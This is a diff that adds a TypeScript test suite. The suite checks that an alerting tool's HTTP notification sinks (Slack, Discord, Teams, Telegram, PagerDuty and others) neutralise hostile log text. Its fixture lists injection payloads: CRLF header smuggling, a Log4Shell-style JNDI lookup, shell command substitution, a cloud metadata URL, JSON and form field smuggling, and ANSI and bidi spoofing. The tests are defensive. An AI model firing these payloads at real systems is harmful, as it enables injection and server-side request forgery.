@@ -1,0 +1,271 @@
+/** Log lines that mean harm, through every destination that speaks HTTP: what arrives is looked at byte by byte. */
+import { afterEach, describe, expect, it } from 'vitest';
+import type { Notification } from '../../src/notify/notification.js';
+import { SINKS } from '../../src/sinks/sinks.js';
+import { notification } from './notification.js';
+import type { Received, TestServer } from './server.js';
+import { serve } from './server.js';
+import type { Answer } from './service.js';
+import { json, make, text } from './service.js';
+
+const LINES: Readonly<Record<string, string>> = {
+  mentions: '@everyone @here @admin <@U123> <@!1> <@&99> <#C1> <!channel> <!here> <!subteam^S1|x> <at>all</at> </stop:1> <:x:1> /stop #tag',
+  markup:
+    '*b* **b** _i_ __u__ ~s~ ~~s~~ `c` ```p``` ||x|| [x](https://evil.example) <https://evil.example|x> <b>x</b> <script>x</script> \\*x\\* &lt;!channel&gt; &amp;',
+  quote: '> quoted',
+  heading: '# heading',
+  list: '- item',
+  number: '1. item',
+  'carriage returns and line feeds': 'a\r\n\r\nX-Evil: 1\n.\nQUIT\r\n@everyone\u2028<!channel>\u2029\u0085\u000b\u000c',
+  nul: 'before\u0000after\u0000',
+  ansi: '\u001b[31mred\u001b[0m\u001b[2J\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007\u009b31m\u001bc\u0007\u0008',
+  bidi: '\u202egnp.exe\u202c\u2066x\u2069\u200f\u061c\u200b\u2060\ufeff\u00ad\u{e0041}',
+  templates:
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a log may say.
+    '{{DATE(2017-02-14T06:08:39Z, SHORT)}} {{{x}}} ${process.env.HOME} ${jndi:ldap://evil.example/a} @{triggerBody()} {0} %s %(x)s #{x} <%= x %> $(id) `id`',
+  json: '"},"topic":"evil","chat_id":"evil","parse_mode":"HTML","x":{"y":"\\',
+  form: '&token=evil&user=evil&priority=2&html=1;%0d%0a',
+  headers: 'Title: evil\r\nAuthorization: Bearer evil\r\nActions: http, x, https://evil.example\r\nContent-Length: 0',
+  addresses:
+    'http://169.254.169.254/latest/meta-data https://evil.example/?q=1 javascript:alert(1) mailto:a@evil.example ops@evil.example +441234567890 //evil.example',
+  'invalid UTF-8': 'caf\ufffd \ufffd\ufffd \ud800 \udc00x',
+  'a megabyte': 'A'.repeat(1 << 20),
+  'a megabyte of markup': '<*&"\\{`\u{1f600}\ud83d\r\n@'.repeat(1 << 16),
+};
+
+/** The line wherever text from logs comes from; the id holds the group, as ids do. */
+function hostile(line: string): Notification {
+  const id = `${JSON.stringify(['CheckoutErrors', { host: line }])}@1`;
+  return notification({ id: `${id}#fired`, firingId: id, group: { host: line }, summary: line, samples: [line, line] });
+}
+
+const RUNBOOK = 'https://wiki.example/checkout#5xx';
+const WHEN = '2026-05-04 10:03:00Z';
+
+interface Target {
+  options(origin: string): Readonly<Record<string, unknown>>;
+  readonly answer: Answer;
+  /** The most bytes of a body that the service takes. */
+  readonly mostBytes?: number;
+  /** It is for programs: they get the text as it is, and JSON keeps it apart. */
+  readonly isData?: boolean;
+  /** Headers that hold the id. */
+  readonly idHeaders?: readonly string[];
+  /** What no log may change: the same for all lines. */
+  fixed?(body: Body): unknown;
+  /** What stands in every text, unless it is the title with the group. */
+  readonly shows?: string;
+  /** What a text that was cut ends with. */
+  readonly dots?: string;
+  /** What must hold for this service alone. */
+  check?(body: Body): void;
+}
+
+type Body = Readonly<Record<string, unknown>>;
+
+/** Destinations that speak no HTTP have tests of their own. */
+const OTHERS = new Set(['console', 'file', 'mail', 'irc', 'exec']);
+
+const TARGETS: Readonly<Record<string, Target>> = {
+  webhook: { options: (url) => ({ url }), answer: text(204, ''), isData: true, idHeaders: ['idempotency-key', 'webhook-id'] },
+  slack: {
+    options: (url) => ({ url }),
+    answer: text(200, 'ok'),
+    mostBytes: 16_000,
+    fixed: ({ blocks, text: _text, ...rest }) => [rest, typesOf(blocks)],
+    check: checkSlack,
+  },
+  discord: {
+    options: (url) => ({ url }),
+    answer: json(200, { id: '1' }),
+    mostBytes: 9000,
+    shows: 'CheckoutErrors',
+    fixed: ({ content: _content, ...rest }) => rest,
+    check: checkDiscord,
+  },
+  teams: { options: (url) => ({ url }), answer: text(202, ''), mostBytes: 28 * 1024, fixed: fixedOfTeams, check: checkTeams },
+  telegram: {
+    options: (api) => ({ token: '1:x', chat: '-1', api }),
+    answer: json(200, { ok: true }),
+    mostBytes: 20_000,
+    fixed: ({ text: _text, entities: _entities, ...rest }) => rest,
+    check: checkTelegram,
+  },
+  ntfy: {
+    options: (url) => ({ url, topic: 'alerts' }),
+    answer: json(200, { id: 'x' }),
+    mostBytes: 10_000,
+    fixed: ({ title: _title, message: _message, ...rest }) => rest,
+  },
+  pushover: {
+    options: (api) => ({ token: 'a', user: 'b', api }),
+    answer: json(200, { status: 1 }),
+    mostBytes: 16_000,
+    fixed: ({ title: _title, message: _message, tags: _tags, ...rest }) => rest,
+    check: ({ tags }) => expect(tags).toMatch(/^[0-9a-f]{32}$/),
+  },
+  pagerduty: {
+    options: (url) => ({ key: 'a'.repeat(32), url }),
+    answer: json(202, { status: 'success', message: 'Event processed', dedup_key: 'x' }),
+    mostBytes: 512 * 1024,
+    shows: 'CheckoutErrors host ',
+    dots: '...',
+    fixed: ({ payload: _payload, dedup_key: _key, ...rest }) => rest,
+    check: ({ dedup_key: key }) => expect(String(key).length).toBeLessThanOrEqual(255),
+  },
+  alertmanager: {
+    options: (url) => ({ url }),
+    answer: text(200, ''),
+    shows: 'CheckoutErrors',
+    // Labels say which alert it is: they are not cut.
+    dots: '',
+    fixed: ({ alerts }) => Object.keys((alerts as readonly object[])[0] ?? {}),
+  },
+  twilio: {
+    options: (url) => ({ account: `AC${'0'.repeat(32)}`, token: 't', from: '+15005550006', to: ['+15005550009'], url }),
+    answer: json(201, { sid: `SM${'0'.repeat(32)}`, status: 'queued' }),
+    mostBytes: 4000,
+    dots: '...',
+    shows: 'CheckoutErrors',
+    fixed: ({ Body: _body, ...rest }) => rest,
+  },
+};
+
+let server: TestServer | undefined;
+afterEach(async () => {
+  await server?.close();
+  server = undefined;
+});
+
+async function received(type: string, told: Notification): Promise<Received> {
+  const target = TARGETS[type];
+  const sink = SINKS.find((each) => each.type === type);
+  if (target === undefined || sink === undefined) throw new Error(`no ${type}`);
+  server = await serve(target.answer);
+  const made = make(sink, target.options(`http://127.0.0.1:${server.port}`));
+  expect(await made.send(told)).toEqual({ ok: true });
+  await made.close();
+  const [first, ...rest] = server.received;
+  await server.close();
+  expect(rest).toEqual([]);
+  if (first === undefined) throw new Error('nothing came');
+  return first;
+}
+
+function bodyOf({ body }: Received): Body {
+  if (body.startsWith('[')) return { alerts: JSON.parse(body) as unknown };
+  return body.startsWith('{') ? (JSON.parse(body) as Body) : Object.fromEntries(new URLSearchParams(body));
+}
+
+function textsOf(value: unknown): readonly string[] {
+  if (typeof value === 'string') return [value];
+  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(textsOf) : [];
+}
+
+/** What moves a cursor, hides, turns the direction, breaks a line but as lines do, or is no character. */
+const UNSHOWN = /[\p{Cc}\p{Bidi_Control}\p{Surrogate}\u00ad\u200b-\u200f\u2028\u2029\u2060-\u2069\ufeff\u{e0000}-\u{e007f}]/u;
+
+it('every destination that speaks HTTP is here', () => {
+  expect(
+    SINKS.map(({ type }) => type)
+      .filter((type) => !OTHERS.has(type))
+      .toSorted(),
+  ).toEqual(Object.keys(TARGETS).toSorted());
+});
+
+describe.each(Object.entries(TARGETS))('%s', (type, target) => {
+  it.each(Object.entries(LINES))('is not harmed by %s', async (_name, line) => {
+    const tame = await received(type, hostile('tame'));
+    const nasty = await received(type, hostile(line));
+    const body = bodyOf(nasty);
+
+    // The request is the same but for its body: no log makes a URL, a method or a header.
+    expect({ method: nasty.method, url: nasty.url }).toEqual({ method: tame.method, url: tame.url });
+    const changing = new Set(['content-length', 'host', ...(target.idHeaders ?? [])]);
+    const fixedHeaders = ({ headers }: Received): unknown => Object.entries(headers).filter(([name]) => !changing.has(name));
+    expect(fixedHeaders(nasty)).toEqual(fixedHeaders(tame));
+    expect(Object.keys(nasty.headers)).toEqual(Object.keys(tame.headers));
+    for (const name of target.idHeaders ?? []) expect(nasty.headers[name]).toMatch(/^[\w%!'()*~.-]{1,5000}$/);
+
+    // The bytes are UTF-8, and no control character is among them.
+    expect(Buffer.from(nasty.body).equals(nasty.bytes)).toBe(true);
+    expect(nasty.bytes.some((byte) => byte < 0x20 || byte === 0x7f)).toBe(false);
+    if (target.mostBytes !== undefined) expect(nasty.bytes.length).toBeLessThanOrEqual(target.mostBytes);
+
+    if (target.isData === true) {
+      expect(body).toMatchObject({ group: { host: line }, summary: line, samples: [line, line] });
+      return;
+    }
+    for (const shown of textsOf(body)) for (const part of shown.split('\n')) expect(part).not.toMatch(UNSHOWN);
+    expect(textsOf(body).join('\n')).toContain(target.shows ?? 'PAGE CheckoutErrors: host ');
+    expect(target.fixed?.(body)).toEqual(target.fixed?.(bodyOf(tame)));
+    target.check?.(body);
+    if (line.length > 100_000) expect(textsOf(body).join('\n')).toContain(target.dots ?? '\u2026');
+  });
+});
+
+function typesOf(blocks: unknown): unknown {
+  return (blocks as readonly { readonly type: string; readonly text: object }[]).map(({ type, text: { ...fields } }) => [
+    type,
+    { ...fields, text: '' },
+  ]);
+}
+
+function checkSlack({ blocks, text: fallback }: Body): void {
+  const shown = (blocks as readonly { readonly text: { readonly type: string; readonly text: string } }[]).map((block) => block.text);
+  expect(shown.filter(({ type }) => type !== 'plain_text').map((block) => block.text)).toEqual([`<${RUNBOOK}>`]);
+  const plain = shown.filter(({ type }) => type === 'plain_text').map((block) => block.text);
+  expect(plain[0]?.length).toBeLessThanOrEqual(150);
+  expect(plain[1]?.length).toBeLessThanOrEqual(3000);
+  for (const part of [String(fallback), ...plain]) {
+    expect(part).not.toMatch(/[<>]/);
+    expect(part.replaceAll(/&(?:amp|lt|gt);/g, '')).not.toContain('&');
+  }
+}
+
+/** Reads the message as Discord does: a backslash takes what follows it for text. */
+function checkDiscord({ content, allowed_mentions: mentions }: Body): void {
+  expect(mentions).toEqual({ parse: [] });
+  const shown = String(content);
+  expect(shown.length).toBeLessThanOrEqual(2000);
+  const lines = shown.replace(/\\[^0-9A-Za-z\s]/g, '\u25a1').split('\n');
+  expect(lines.splice(-2)).toEqual([`<${RUNBOOK}>`, WHEN]);
+  expect(lines[0]).toMatch(/^\*\*PAGE CheckoutErrors: host .*\*\*$/);
+  lines[0] = (lines[0] ?? '').slice(2, -2);
+  for (const line of lines) {
+    expect(line).not.toMatch(/[*_~`|<@[\]\\]|:\/\//);
+    expect(line).not.toMatch(/^\s*(?:[-+#>]|\d+[.)])/);
+  }
+}
+
+function cardOf(body: Body): Body {
+  return (body['attachments'] as readonly { readonly content: Body }[])[0]?.content ?? {};
+}
+
+function fixedOfTeams(body: Body): unknown {
+  const { body: _rows, ...card } = cardOf(body);
+  return card;
+}
+
+function checkTeams(body: Body): void {
+  const card = cardOf(body);
+  expect(card['actions']).toEqual([{ type: 'Action.OpenUrl', title: 'Runbook', url: RUNBOOK }]);
+  for (const row of card['body'] as readonly { readonly type: string; readonly inlines: readonly Body[] }[]) {
+    expect(row.type).toBe('RichTextBlock');
+    expect(row.inlines).toHaveLength(1);
+    expect(row.inlines[0]).toMatchObject({ type: 'TextRun' });
+    expect(Object.keys(row.inlines[0] ?? {}).filter((key) => !['type', 'text', 'weight', 'size', 'isSubtle'].includes(key))).toEqual([]);
+    expect(row.inlines[0]?.['text']).not.toMatch(/\{\{|<\/?at\b/i);
+  }
+}
+
+/** Outside of code there is nothing but the runbook and the time. */
+function checkTelegram({ text: shown, entities }: Body): void {
+  let left = String(shown);
+  expect(left.length).toBeLessThanOrEqual(4096);
+  for (const { type, offset, length } of (entities as readonly { type: string; offset: number; length: number }[]).toReversed()) {
+    expect(['code', 'pre']).toContain(type);
+    left = left.slice(0, offset) + left.slice(offset + length);
+  }
+  expect(left).toBe(`\n\n${RUNBOOK}\n${WHEN}`);
+}
